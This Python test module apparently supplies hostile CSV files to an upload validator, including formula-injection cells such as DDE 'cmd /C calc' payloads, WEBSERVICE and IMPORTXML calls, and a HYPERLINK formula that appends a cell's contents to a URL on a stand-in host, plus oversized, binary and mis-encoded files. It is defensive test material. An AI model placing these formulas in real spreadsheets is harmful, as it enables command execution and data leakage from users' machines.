"""CSV files that a spreadsheet would run, or can not hold. All words in them are made up."""

from collections.abc import Callable, Iterator

from tests.made.hostile.base import CSV, MIB, Sent, as_is, good_csv


def tables() -> Iterator[Sent]:
    for number, cell in enumerate(
        (
            "=1+1",
            "=cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            '=HYPERLINK("https://x.example?"&A1)',
            "=WEBSERVICE(A1)",
            " =1+1",
            "DDE|x!A1",
            "@IMPORTXML(A1)",
        ),
        start=1,
    ):
        row = cell.replace('"', '""')
        yield Sent(
            f"CSV: formula {number}",
            "audit.csv",
            as_is(f'Ward,Alarms,Answered\r\nRowan,12,"{row}"\r\nElm,1,2\r\n'.encode()),
            "",
            "formula",
        )
    rows: tuple[tuple[str, Callable[[], bytes], str, str], ...] = (
        ("formula in the header", lambda: b"Ward,=1+1,x\r\nRowan,1,2\r\nElm,3,4\r\n", "", "formula"),
        ("header alone", lambda: b"Ward,Alarms,Answered\r\n", "", "no rows"),
        (
            "cell of 40,000 characters",
            lambda: b"a,b,c\n1,2," + b"x" * 40_000 + b"\n4,5,6\n",
            "",
            "characters",
        ),
        ("600 columns", lambda: (b"a," * 600 + b"b\n") * 3, "", "columns"),
        ("bytes of a program inside", lambda: b"a,b,c\n" + b"MZ\x90\x00\x03\x01\x02" * 900, "", ""),
        ("in UTF-16", lambda: good_csv().decode().encode("utf-16"), CSV, ""),
        (
            "in Windows-1252",
            lambda: "Ward,Notes,x\r\nCaf\u00e9,\u00a35,1\r\nElm,2,3\r\n".encode("cp1252"),
            CSV,
            "",
        ),
        ("with semicolons", lambda: b"Ward;Alarms;Answered\r\nRowan;1;2\r\nElm;3;4\r\n", CSV, ""),
        ("marked as text", lambda: b"Ward,Alarms,x\r\nRowan,'=1+1,2\r\nElm,3,4\r\n", CSV, ""),
        ("quotes that never close", lambda: b'a,b,c\n1,"2,3\n' + b"4,5,6\n" * 2000, "any", ""),
        ("zeros inside", lambda: b"a,b,c\n1,\x002,3\n4,5,6\n7,8,9\n", "any", ""),
        (
            "one line of 3 MiB",
            lambda: b"a,b,c\n" + b"1,2," + b"9" * (3 * MIB) + b"\n1,2,3\n",
            "",
            "characters",
        ),
    )
    for label, make, kept, why in rows:
        yield Sent(f"CSV: {label}", "audit.csv", make, kept, why)
